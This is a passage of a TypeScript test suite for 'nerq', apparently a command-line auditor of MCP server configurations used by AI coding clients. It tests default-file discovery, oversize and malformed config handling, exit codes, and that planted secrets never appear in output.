        { file: '~/.claude-work/.claude.json', format: 'mcp-config', client: 'Claude Code', scope: 'user' },
        { file: path.join(moved, 'config.toml').split(path.sep).join('/'), format: 'mcp-config', client: 'Codex', scope: 'user' },
      ]);
      expect(report.entries.map((e) => [e.subject.ecosystem, e.subject.name]).sort()).toEqual([
        ['npm', 'nerq-fixture-bare'],
        ['pypi', 'nerq-fixture-inactive'],
      ]);
      // The default files name local launches: read, they would be listed as notes.
      expect(result.stdout).not.toContain('/opt/default-');
      for (const text of [result.stdout, result.stderr]) expect(text).not.toContain(SECRET);
    } finally {
      rmSync(moved, { recursive: true, force: true });
    }
  });

  it('an empty CODEX_HOME or CLAUDE_CONFIG_DIR is unset, as the clients read it: the default files are read', async () => {
    setUp({
      '~/.codex/config.toml': '[mcp_servers.old]\ncommand = "node"\nargs = ["/opt/default-codex.js"]\n',
      '~/.claude.json': JSON.stringify({ mcpServers: { old: { command: 'node', args: ['/opt/default-claude.js'] } } }),
    });
    const result = await runAuditIn({ home, project }, ['--mcp', '--json'], undefined, { CODEX_HOME: '', CLAUDE_CONFIG_DIR: '' });
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.inputs.map((i) => [i.file, i.client])).toEqual([
      ['~/.claude.json', 'Claude Code'],
      ['~/.codex/config.toml', 'Codex'],
    ]);
    const notes = report.warnings.filter((w) => w.code === 'input-note').map((w) => w.message);
    expect(notes).toHaveLength(2);
    expect(notes.join('\n')).toMatch(/\/opt\/default-claude\.js[\s\S]*\/opt\/default-codex\.js/);
  });

  it('a malformed Goose file is exit 2 in one line naming it', async () => {
    setUp({ '~/.config/goose/config.yaml': 'extensions: [unclosed\n' });
    const result = await run(['--mcp']);
    expect(result.code).toBe(2);
    expect(result.stderr.trim()).toMatch(/^nerq: ~\/\.config\/goose\/config\.yaml:\d+: invalid YAML/);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
  });
});

/** The 1-based line of the first `needle` in `text`. */
const lineOf = (text: string, needle: string) => text.slice(0, text.indexOf(needle)).split('\n').length;

/**
 * A `~/.claude.json` as Claude Code keeps it: per-project prompt history (with pasted logs),
 * tips and changelog caches, padded past `bytes`; servers at the top and in one project, a secret in `env`.
 */
function claudeState(bytes: number): string {
  const entry = (i: number) => ({
    display: `why does the build of package ${i} fail on CI but not locally?`,
    pastedContents: { '1': { id: 1, type: 'text', content: `npm ERR! code ELIFECYCLE\nnpm ERR! errno 1\nnpm ERR! pkg-${i}@1.0.0 build: \`tsc -p .\`\n`.repeat(6) } },
  });
  const history = (n: number) => Array.from({ length: n }, (_, i) => entry(i));
  const project = (n: number, servers: object) => ({ allowedTools: [], history: history(n), mcpContextUris: [], mcpServers: servers, hasTrustDialogAccepted: true, lastCost: 0.42 });
  let n = 1000;
  for (;;) {
    const text = JSON.stringify({
      numStartups: 412,
      installMethod: 'global',
      tipsHistory: { 'new-user-warmup': 7, 'memory-command': 20 },
      projects: {
        '/home/u/old': project(n, {}),
        '/home/u/app': project(n, { mine: { command: 'node', args: ['/opt/mine/server.js'], env: { API_TOKEN: SECRET } } }),
      },
      mcpServers: { bare: { command: 'npx', args: ['-y', 'nerq-fixture-bare@1.0.0'], env: { GITHUB_TOKEN: SECRET } } },
      cachedChangelog: '## 1.0.0\n- Fixed a bug\n'.repeat(1000),
    }, null, 2);
    if (text.length > bytes) return text;
    n *= 2;
  }
}

describe("a real ~/.claude.json (history and state, tens of MB) and files that cannot be read do not stop the audit", () => {
  it('a 20 MB ~/.claude.json: its top-level and project servers are audited at their lines, exiting as the same servers in a small file do', async () => {
    const state = claudeState(20 * 1024 * 1024);
    setUp({ '~/.claude.json': state });
    const server = await sandbox.start();
    expectPackage(server, 'nerq-fixture-bare');
    const result = await run(['--mcp', '--json']);
    expect(result.stderr).not.toMatch(/larger than/);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.inputs).toEqual([{ file: '~/.claude.json', format: 'mcp-config', client: 'Claude Code', scope: 'user' }]);
    expect(report.entries.map((e) => [e.subject.name, e.subject.declaredIn])).toEqual([['nerq-fixture-bare', [{ file: '~/.claude.json', line: lineOf(state, '    "bare": {'), workspace: null }]]]);
    const notes = report.warnings.filter((w) => w.code === 'input-note').map((w) => w.message);
    expect(notes).toEqual([expect.stringMatching(new RegExp(`^~/\\.claude\\.json: line ${lineOf(state, '        "mine": {')}: MCP server "mine" \\(project "/home/u/app"\\) runs a local file`))]);
    expect(report.warnings.map((w) => w.code)).not.toContain('mcp-config-unread');
    for (const text of [result.stdout, result.stderr]) expect(text).not.toContain(SECRET);
    // The same servers in a file of a few lines: the same outcome.
    const small = JSON.stringify({ mcpServers: JSON.parse(state).mcpServers, projects: { '/home/u/app': { mcpServers: JSON.parse(state).projects['/home/u/app'].mcpServers } } });
    await closeMcpHome(undefined, home);
    setUp({ '~/.claude.json': small });
    const same = await run(['--mcp', '--json']);
    expect(result.code).toBe(same.code);
    expect(report.outcome).toEqual((JSON.parse(same.stdout) as AuditReport).outcome);
  });

  it('a found file over its cap (a 10 MB .mcp.json; a ~/.claude.json over 128 MiB) is an mcp-config-unread finding: the other files are audited, the run incomplete (exit 3); named with --mcp-config it stays exit 2', async () => {
    const cursor = JSON.stringify({ mcpServers: { mine: { command: 'node', args: ['/opt/mine/server.js'] } } }, null, 2);
    setUp({ '.mcp.json': `{"mcpServers": {}, "pad": "${'x'.repeat(10 * 1024 * 1024)}"}`, '~/.cursor/mcp.json': cursor, '~/.claude.json': '' });
    // A sparse file: its size is past the cap, no block of it written.
    truncateSync(path.join(home, '.claude.json'), 129 * 1024 * 1024);
    const result = await run(['--mcp', '--json']);
    expect(result.stderr).not.toMatch(/^nerq: /m);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.inputs.map((i) => i.file)).toEqual(['~/.cursor/mcp.json']);
    expect(report.warnings.filter((w) => w.code === 'mcp-config-unread').map((w) => w.details).sort((a, b) => String(a.file).localeCompare(String(b.file)))).toEqual([
      { file: '.mcp.json', line: null, reason: 'too-large', size: expect.any(Number), client: 'Claude Code, GitHub Copilot CLI, Visual Studio' },
      { file: '~/.claude.json', line: null, reason: 'too-large', size: 129 * 1024 * 1024, client: 'Claude Code' },
    ]);
    expect(report.warnings.filter((w) => w.code === 'input-note').map((w) => w.message)).toEqual([expect.stringMatching(/^~\/\.cursor\/mcp\.json: line 3: MCP server "mine"/)]);
    expect(report.outcome).toMatchObject({ result: 'incomplete', exitCode: 3 });
    expect(result.code).toBe(3);
    // Servers nobody read are no thing to accept: --allow-incomplete leaves it incomplete.
    expect((await run(['--mcp', '--json', '--allow-incomplete'])).code).toBe(3);
    const table = await run(['--mcp']);
    expect(table.code).toBe(3);
    expect(table.stdout).toContain('2 MCP client configuration files not read');
    const sarif = await run(['--mcp', '--format', 'sarif']);
    expect(sarif.code).toBe(3);
    expect((JSON.parse(sarif.stdout) as { runs: { results: { ruleId: string }[] }[] }).runs[0]!.results.filter((r) => r.ruleId === 'finding/mcp-config-unread')).toHaveLength(2);
    const named = await run(['--mcp-config', '~/.claude.json'.replace('~', home)]);
    expect(named.code).toBe(2);
    expect(named.stderr.trim()).toBe('nerq: ~/.claude.json: larger than 128 MiB, not read');
  });

  it('a found file that is not a regular file is the same finding', async () => {
    setUp({ '~/.cursor/mcp.json': JSON.stringify({ mcpServers: { mine: { command: 'node', args: ['/opt/x.js'] } } }) });
    mkdirSync(path.join(home, '.claude.json'));
    const result = await run(['--mcp', '--json']);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.warnings.find((w) => w.code === 'mcp-config-unread')?.details).toMatchObject({ file: '~/.claude.json', reason: 'not-a-file' });
    expect(result.code).toBe(3);
  });
});

describe('bad input is exit 2, one line, before any request', () => {
  it.each([
    ['a missing --mcp-config file', {}, ['--mcp-config', 'nope.json'], /^nerq: nope\.json: no such file$/],
    ['nothing configured anywhere', {}, ['--mcp'], /^nerq: no MCP server configured: 0 of \d+ MCP client configuration files found/],
    ['a 10 MB configuration named with --mcp-config', { '.mcp.json': `{"mcpServers": {}, "pad": "${'x'.repeat(10 * 1024 * 1024)}"}` }, ['--mcp-config', '.mcp.json'], /^nerq: \.mcp\.json: larger than 1 MiB, not read$/],
    ['a malformed configuration', { '.mcp.json': '{"mcpServers": {"a": }' }, ['--mcp'], /^nerq: \.mcp\.json:1: invalid JSON: ValueExpected$/],
    ['--mcp with --file', {}, ['--mcp', '--file', 'package-lock.json'], /^nerq: --file and --mcp/],
  ] as const)('%s', async (_name, files, args, message) => {
    setUp(files);
    const result = await run([...args]);
    expect(result.code).toBe(2);
    expect(result.stderr.trim()).toMatch(message);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
  });
});
